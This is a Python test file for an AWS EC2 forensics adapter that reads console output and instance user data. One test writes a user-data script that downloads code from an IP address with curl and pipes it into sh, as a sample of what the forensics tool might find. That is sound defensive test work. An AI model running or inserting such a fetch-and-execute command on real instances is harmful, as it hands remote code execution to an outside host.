from __future__ import annotations

import base64

import pytest

from chalicelib.adapters.ec2.forensics import Ec2Forensics
from chalicelib.core.errors import AwsRefusedError
from tests.adapters.sites import AwsSite


@pytest.fixture
def instance_id(ec2: AwsSite) -> str:
    vpc = ec2.make_vpc()
    return ec2.launch((vpc, (ec2.make_group(vpc),)))


def test_what_ec2_kept_of_the_console_is_read(ec2: AwsSite, instance_id: str) -> None:
    assert Ec2Forensics(ec2.client).console(instance_id)


def test_user_data_are_read_as_they_were_written(ec2: AwsSite, instance_id: str) -> None:
    forensics = Ec2Forensics(ec2.client)
    assert forensics.user_data(instance_id) == ""

    told = "#!/bin/sh\ncurl http://198.51.100.7/größe | sh\n".encode()
    ec2.client.modify_instance_attribute(
        InstanceId=instance_id, UserData={"Value": base64.b64encode(told)}
    )

    assert forensics.user_data(instance_id) == told.decode()


def test_user_data_that_are_no_text_are_kept_as_ec2_gives_them(
    ec2: AwsSite, instance_id: str
) -> None:
    packed = base64.b64encode(b"\x1f\x8b\xff")
    ec2.client.modify_instance_attribute(InstanceId=instance_id, UserData={"Value": packed})

    assert Ec2Forensics(ec2.client).user_data(instance_id) == packed.decode()


@pytest.mark.parametrize("read", ["console", "user_data"])
def test_an_instance_that_is_not_there_is_refused(ec2: AwsSite, read: str) -> None:
    with pytest.raises(AwsRefusedError):
        getattr(Ec2Forensics(ec2.client), read)("i-00000000000000000")
